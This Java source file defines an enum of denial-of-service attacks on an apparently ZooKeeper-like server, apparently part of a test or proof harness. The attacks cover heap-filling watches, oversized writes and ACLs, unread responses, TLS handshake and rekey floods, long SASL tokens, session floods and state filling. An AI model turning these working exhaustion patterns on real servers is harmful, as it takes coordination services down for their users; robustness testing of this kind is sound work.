package io.conclave.proofs.attacks;

import io.conclave.protocol.AclRecord;
import io.conclave.protocol.ConnectionRequest;
import io.conclave.protocol.CreateFlag;
import io.conclave.protocol.OpCode;
import io.conclave.protocol.RequestBody;
import io.conclave.protocol.WatchMode;
import io.conclave.protocol.WatchRequest;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;

/** What one hostile connection sends, again and again, without waiting for answers. */
enum Attack {
    /** Each takes 0.9 to 1.8 MB of the heap where nothing bounds it. */
    WATCHES_ON_LONG_PATHS {
        @Override
        RequestBody request(String id, int number) {
            return new RequestBody.Exists("/" + id + number + "x".repeat(LARGE), true);
        }
    },
    MANY_WATCHES {
        @Override
        RequestBody request(String id, int number) {
            return new RequestBody.Exists("/" + id + number, true);
        }
    },
    LARGE_LISTS_OF_WATCHES {
        @Override
        RequestBody request(String id, int number) {
            List<String> paths = new ArrayList<>();
            for (int bytes = 0;
                    bytes < LARGE;
                    bytes += 4 + paths.get(paths.size() - 1).length()) {
                paths.add("/" + paths.size());
            }
            return new WatchRequest.SetWatches(
                    OpCode.SET_WATCHES, 0, paths, List.of(), List.of(), List.of(), List.of());
        }
    },
    /** Of the tree that {@link #prepare} makes. */
    WALKS_OF_SUBTREES {
        @Override
        RequestBody request(String id, int number) {
            return new RequestBody.GetAllChildrenNumber(SUBTREE);
        }

        @Override
        void prepare(RawConnection connection) throws IOException {
            createChildren(connection, SUBTREE, 50_000);
        }
    },
    HUGE_MULTIS {
        @Override
        RequestBody request(String id, int number) {
            List<RequestBody> parts = new ArrayList<>();
            for (int bytes = 0; bytes < LARGE; bytes += 40) {
                parts.add(new RequestBody.SetData("/", new byte[0], -1));
            }
            return new RequestBody.Multi(OpCode.MULTI, parts);
        }
    },
    LARGE_WRITES {
        @Override
        RequestBody request(String id, int number) {
            return new RequestBody.SetData("/", new byte[LARGE], -1);
        }
    },
    LARGE_ACLS {
        @Override
        RequestBody request(String id, int number) {
            List<AclRecord> acl = new ArrayList<>();
            for (int bytes = 0; bytes < LARGE; bytes += 29) {
                acl.add(new AclRecord(
                        31, "ip", "10." + acl.size() / 65536 + "." + acl.size() / 256 % 256 + "." + acl.size() % 256));
            }
            return create("/acl-" + id + number, new byte[0], acl);
        }
    },
    /** They ride in each create. */
    LARGE_AUTH_IDS {
        @Override
        RequestBody request(String id, int number) {
            return number < 95
                    ? new ConnectionRequest.Auth(
                            0, "digest", (number + "u".repeat(4000) + ":x").getBytes(StandardCharsets.UTF_8))
                    : create("/auth-" + id + number, new byte[0], AclRecord.OPEN);
        }
    },
    /** Of one znode with very many children; its answer has 2 MB. */
    LARGE_LISTINGS {
        @Override
        RequestBody request(String id, int number) {
            return new RequestBody.GetChildren(LISTED, true);
        }

        @Override
        void prepare(RawConnection connection) throws IOException {
            createChildren(connection, LISTED, 150_000);
        }
    },
    LARGE_MULTI_READS {
        @Override
        RequestBody request(String id, int number) {
            List<RequestBody> parts = new ArrayList<>();
            for (int bytes = 0; bytes < LARGE; bytes += 15) {
                parts.add(new RequestBody.GetData("/", false));
            }
            return new RequestBody.Multi(OpCode.MULTI_READ, parts);
        }
    },
    /** As many as find room, and then the connection goes. */
    WATCHES_OF_CLOSED_CONNECTIONS {
        @Override
        RequestBody request(String id, int number) {
            List<String> paths = new ArrayList<>();
            for (int i = 0; i < 20_000; i++) {
                paths.add("/" + id + number + "-" + i);
            }
            return new WatchRequest.SetWatches(
                    OpCode.SET_WATCHES, 0, List.of(), paths, List.of(), List.of(), List.of());
        }

        @Override
        int requestsOfAConnection() {
            return 4;
        }
    },
    /** Their ephemeral znodes go with them. */
    EPHEMERALS_OF_CLOSED_SESSIONS {
        @Override
        RequestBody request(String id, int number) {
            if (number % requestsOfAConnection() == requestsOfAConnection() - 1) {
                return new ConnectionRequest.Empty(OpCode.CLOSE_SESSION);
            }
            List<RequestBody> creates = new ArrayList<>();
            for (int i = 0; i < 2_000; i++) {
                creates.add(new RequestBody.Create(
                        OpCode.CREATE,
                        "/ephemeral-" + id + number + "-" + i,
                        new byte[0],
                        AclRecord.OPEN,
                        CreateFlag.EPHEMERAL));
            }
            return new RequestBody.Multi(OpCode.MULTI, creates);
        }

        @Override
        int requestsOfAConnection() {
            return 11;
        }
    },
    /** Answers of 16 MB that nobody reads. */
    UNREAD_MULTI_READS {
        @Override
        RequestBody request(String id, int number) {
            return new RequestBody.Multi(
                    OpCode.MULTI_READ, Collections.nCopies(19, new RequestBody.GetData(UNREAD, false)));
        }

        @Override
        void prepare(RawConnection connection) throws IOException {
            connection.call(create(UNREAD, new byte[LARGE], AclRecord.OPEN));
        }

        @Override
        int requestsOfAConnection() {
            return 1;
        }

        @Override
        boolean reads() {
            return false;
        }
    },
    /** Each connection watches everything, changes something with a long path, and reads nothing. */
    UNREAD_EVENTS {
        @Override
        RequestBody request(String id, int number) {
            return number % requestsOfAConnection() == 0
                    ? new WatchRequest.AddWatch("/", WatchMode.PERSISTENT_RECURSIVE.code())
                    : new RequestBody.Multi(
                            OpCode.MULTI, Collections.nCopies(20, new RequestBody.SetData(LONG, new byte[0], -1)));
        }

        @Override
        void prepare(RawConnection connection) throws IOException {
            connection.call(create(LONG, new byte[0], AclRecord.OPEN));
        }

        @Override
        int requestsOfAConnection() {
            return 2;
        }

        @Override
        boolean reads() {
            return false;
        }
    },
    /** The same over TLS, where what waits for the socket is encrypted already. */
    UNREAD_MULTI_READS_OVER_TLS {
        @Override
        RequestBody request(String id, int number) {
            return UNREAD_MULTI_READS.request(id, number);
        }

        @Override
        void prepare(RawConnection connection) throws IOException {
            UNREAD_MULTI_READS.prepare(connection);
        }

        @Override
        int requestsOfAConnection() {
            return 1;
        }

        @Override
        boolean reads() {
            return false;
        }

        @Override
        boolean isOverTls() {
            return true;
        }
    },
    /** Each answers with a signature to a message that was recorded once. */
    TLS_HANDSHAKES {
        @Override
        Optional<byte[]> opening(int number) {
            return Optional.of(StrangersTls.clientHello());
        }
    },
    /** Its connections wait without a handshake, or for the server to close them. */
    TLS_HANDSHAKES_WITHOUT_END {
        @Override
        Optional<byte[]> opening(int number) {
            return Optional.of(StrangersTls.clientHello());
        }

        @Override
        boolean completes() {
            return false;
        }
    },
    /** TLS 1.3: each is answered with a new key of the server. */
    TLS_NEW_KEYS {
        @Override
        RequestBody request(String id, int number) {
            return new RequestBody.Exists("/", false);
        }

        @Override
        boolean isOverTls() {
            return true;
        }

        @Override
        void send(RawConnection connection, String id, int number) throws IOException {
            connection.askForNewKeys();
        }
    },
    /** An exchange that begins, and a long token that is no proof. */
    SASL_TOKENS {
        @Override
        RequestBody request(String id, int number) {
            return new ConnectionRequest.Sasl(
                    number % requestsOfAConnection() == 0
                            ? new byte[0]
                            : ("username=\"bob\",realm=\"" + "x".repeat(60_000) + "\"")
                                    .getBytes(StandardCharsets.US_ASCII));
        }

        @Override
        int requestsOfAConnection() {
            return 2;
        }
    },
    /** Those that list everything. */
    FOUR_LETTER_WORDS {
        private static final List<String> WORDS = List.of("cons", "dump", "wchp", "wchc", "wchs", "stat", "mntr");

        @Override
        Optional<byte[]> opening(int number) {
            return Optional.of(WORDS.get(Math.floorMod(number, WORDS.size())).getBytes(StandardCharsets.US_ASCII));
        }
    },
    /** Each new one has its subtree counted by all members. */
    QUOTAS_OF_LARGE_SUBTREES {
        @Override
        RequestBody request(String id, int number) {
            String stats = QUOTA + "/zookeeper_stats";
            List<RequestBody> parts = new ArrayList<>();
            for (int i = 0; i < 100; i++) {
                parts.add(create(stats, new byte[0], AclRecord.OPEN));
                parts.add(new RequestBody.Delete(stats, -1));
            }
            return new RequestBody.Multi(OpCode.MULTI, parts);
        }

        @Override
        void prepare(RawConnection connection) throws IOException {
            createChildren(connection, SUBTREE, 50_000);
            connection.call(create(QUOTA, new byte[0], AclRecord.OPEN));
            connection.call(create(
                    QUOTA + "/zookeeper_limits",
                    "count=-1,bytes=-1".getBytes(StandardCharsets.US_ASCII),
                    AclRecord.OPEN));
        }
    },
    /** Requests of 0.9 MB without their last bytes. */
    INCOMPLETE_WRITES {
        @Override
        RequestBody request(String id, int number) {
            return new RequestBody.SetData("/", new byte[LARGE], -1);
        }

        @Override
        boolean completes() {
            return false;
        }
    },
    /** They live on when their connections have gone. */
    MANY_SESSIONS {
        @Override
        Optional<byte[]> opening(int number) {
            return Optional.of(RawConnection.greeting(4_000, 0));
        }
    },
    /** Each is refused by an entry of the log. */
    UNKNOWN_SESSIONS {
        @Override
        Optional<byte[]> opening(int number) {
            return Optional.of(RawConnection.greeting(4_000, 1));
        }
    },
    SMALL_CREATES {
        @Override
        RequestBody request(String id, int number) {
            return create("/small-" + id + number, new byte[10], AclRecord.OPEN);
        }
    },
    /** Nothing can be created behind it until something is deleted. */
    FILLED_STATE {
        @Override
        RequestBody request(String id, int number) {
            return create("/fill-" + id + number, new byte[100_000], AclRecord.OPEN);
        }
    };

    static final int LARGE = 900_000;
    static final String SUBTREE = "/subtree";
    /** The quota of that subtree. */
    static final String QUOTA = "/zookeeper/quota" + SUBTREE;

    static final String LISTED = "/listed";
    static final String UNREAD = "/unread";
    static final String LONG = "/" + "x".repeat(16_000);

    /** The next request of a connection; one with an {@link #opening} has none. */
    RequestBody request(String id, int number) {
        throw new IllegalStateException("its connections ask for nothing");
    }

    /** Once, before the connections begin. */
    void prepare(RawConnection connection) throws IOException {}

    /** After so many, the next connection begins. */
    int requestsOfAConnection() {
        return Integer.MAX_VALUE;
    }

    /**
     * What a connection says, if it says that, hears the first byte of an answer and goes; many for each attacker at a
     * time.
     */
    Optional<byte[]> opening(int number) {
        return Optional.empty();
    }

    /** Whether its connections speak TLS. */
    boolean isOverTls() {
        return false;
    }

    /** Whether it needs a port that takes TLS. */
    final boolean needsTls() {
        return isOverTls() || name().startsWith("TLS_");
    }

    /** The next of what a connection sends. */
    void send(RawConnection connection, String id, int number) throws IOException {
        connection.send(request(id, number));
    }

    /** Whether its connections read their answers; of those that do not, each attacker keeps many open. */
    boolean reads() {
        return true;
    }

    /** Whether its requests are sent to their end; of those that are not, each attacker keeps many open. */
    boolean completes() {
        return true;
    }

    private static void createChildren(RawConnection connection, String parent, int count) throws IOException {
        connection.call(create(parent, new byte[0], AclRecord.OPEN));
        int ofMulti = 1_000;
        for (int first = 0; first < count; first += ofMulti) {
            List<RequestBody> creates = new ArrayList<>();
            for (int i = first; i < first + ofMulti; i++) {
                creates.add(create(parent + "/" + i, new byte[0], AclRecord.OPEN));
            }
            connection.call(new RequestBody.Multi(OpCode.MULTI, creates));
        }
    }

    static RequestBody create(String path, byte[] data, List<AclRecord> acl) {
        return new RequestBody.Create(OpCode.CREATE, path, data, acl, CreateFlag.PERSISTENT);
    }
}
